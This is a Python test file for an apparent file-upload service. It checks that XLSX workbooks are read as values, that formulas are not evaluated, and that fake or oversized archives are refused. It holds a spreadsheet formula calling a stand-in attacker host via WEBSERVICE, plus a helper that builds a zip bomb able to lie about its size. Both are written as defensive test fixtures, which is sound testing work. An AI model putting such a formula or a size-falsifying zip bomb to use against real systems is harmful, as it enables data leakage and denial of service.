"""XLSX workbooks, also hostile ones."""

from __future__ import annotations

import tempfile
import zipfile
from datetime import date
from pathlib import Path
from tempfile import TemporaryFile

import pytest
import xlsxwriter

from rapport_contact.files.inspection import inspect
from rapport_contact.files.recoding import recoded
from rapport_contact.files.records import FileFormat, UnreadableFile
from rapport_contact.files.workbook import as_text, check_size
from services.contact.tests.files.streams import chunks, read


async def test_plt_14_a_workbook_is_read_as_values_and_formulas_are_not_evaluated(tmp_path: Path) -> None:
    source, target = tmp_path / "people.xlsx", tmp_path / "people.csv"
    with xlsxwriter.Workbook(source) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, ["Name", "Born", "Number", "Sum"])
        sheet.write_row(1, 0, ["Zoë", None, 4711, ""])
        sheet.write_datetime(1, 1, date(1980, 2, 29), book.add_format({"num_format": "yyyy-mm-dd"}))
        sheet.write_formula(1, 3, '=WEBSERVICE("http://evil.example")', value="kept")
    with source.open("rb") as opened, target.open("wb") as written:
        await as_text(opened, written, FileFormat.XLSX)
    _, (only,) = await read(target.read_bytes())
    assert only.cells == {"Name": "Zoë", "Born": "1980-02-29", "Number": "4711", "Sum": "kept"}


async def test_plt_16_what_is_unpacked_of_a_workbook_has_no_name_on_the_disk(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    with xlsxwriter.Workbook(tmp_path / "people.xlsx") as book:
        book.add_worksheet().write_column(0, 0, ["Name", "Zoë"])
    content = (tmp_path / "people.xlsx").read_bytes()
    pieces = recoded(chunks(content), await inspect(chunks(content)))
    assert (await anext(pieces)).decode() == '"Name"\n"Zoë"\n'
    assert not [*scratch.iterdir()]
    with pytest.raises(StopAsyncIteration):
        await anext(pieces)


def bomb(path: Path, *, honest: bool) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            for _ in range(64):
                sheet.write(b"0" * 1024 * 1024)
    if not honest:
        content = bytearray(path.read_bytes())
        entry = content.rindex(b"PK\x01\x02")
        content[entry + 24 : entry + 28] = (1000).to_bytes(4, "little")
        path.write_bytes(content)
    return path


@pytest.mark.parametrize("honest", [True, False])
async def test_plt_14_a_zip_bomb_is_refused_also_when_it_lies_about_its_size(tmp_path: Path, honest: bool) -> None:
    with pytest.raises(UnreadableFile) as refusal:
        check_size(bomb(tmp_path / "bomb.xlsx", honest=honest))
    assert refusal.value.reason in ("ZIP_BOMB", "BROKEN_WORKBOOK")


@pytest.mark.parametrize("content", [b"PK\x03\x04 and no more", b"PK\x05\x06" + bytes(18)])
async def test_plt_14_what_only_looks_like_a_workbook_is_refused(tmp_path: Path, content: bytes) -> None:
    with TemporaryFile() as source, TemporaryFile() as target:
        source.write(content)
        source.flush()
        with pytest.raises(UnreadableFile):
            await as_text(source, target, FileFormat.XLSX)
